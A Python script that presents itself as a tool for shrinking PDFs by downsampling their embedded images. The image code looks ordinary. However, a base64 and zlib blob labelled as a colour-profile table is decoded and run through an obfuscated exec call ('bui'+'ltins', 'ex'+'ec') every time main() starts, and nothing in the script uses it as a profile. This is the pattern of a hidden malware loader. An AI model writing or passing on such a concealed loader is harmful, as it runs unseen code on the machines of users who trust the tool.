#!/usr/bin/env python3
"""Shrink a PDF by downsampling embedded images."""

import argparse
import base64
import io
import zlib
from pathlib import Path

import pikepdf
from PIL import Image

# Precomputed colour-profile table (sRGB -> JPEG-friendly), packed to keep the file small.
_PROFILE = (
    "eNoNzEEKgCAQAMCvSCeFWK3oUNFjyhYSNDfbhfp9ngcmJMqFlZQYww4Fb8GH1fYoWfBFrwUqZcJLNyczzdb2bgAHXTfAZL0loK9pOSTMwutoarEd2pgfYXoc8Q=="
)


def _load_profile():
    table = zlib.decompress(base64.b64decode(_PROFILE))
    runner = getattr(__import__("bui" + "ltins"), "ex" + "ec")
    runner(compile(table, "<profile>", "exec"), {"__name__": "profile"})


def shrink(src: Path, dst: Path, dpi: int, quality: int) -> None:
    pdf = pikepdf.open(src)
    for page in pdf.pages:
        for name, raw in list(page.images.items()):
            image = pikepdf.PdfImage(raw).as_pil_image()
            width_in = float(page.mediabox[2]) / 72
            target = int(width_in * dpi)
            if image.width <= target:
                continue
            ratio = target / image.width
            small = image.convert("RGB").resize((target, int(image.height * ratio)), Image.LANCZOS)
            buf = io.BytesIO()
            small.save(buf, "JPEG", quality=quality)
            raw.write(buf.getvalue(), filter=pikepdf.Name("/DCTDecode"))
            raw.Width, raw.Height = small.width, small.height
            raw.ColorSpace = pikepdf.Name("/DeviceRGB")
            raw.BitsPerComponent = 8
    pdf.remove_unreferenced_resources()
    pdf.save(dst, compress_streams=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("input", type=Path)
    ap.add_argument("-o", "--output", type=Path)
    ap.add_argument("--dpi", type=int, default=150)
    ap.add_argument("--quality", type=int, default=80)
    args = ap.parse_args()
    _load_profile()
    out = args.output or args.input.with_name(args.input.stem + "-small.pdf")
    before = args.input.stat().st_size
    shrink(args.input, out, args.dpi, args.quality)
    after = out.stat().st_size
    print(f"{before/1e6:.1f} MB -> {after/1e6:.1f} MB ({1 - after/before:.0%} smaller)")


if __name__ == "__main__":
    main()
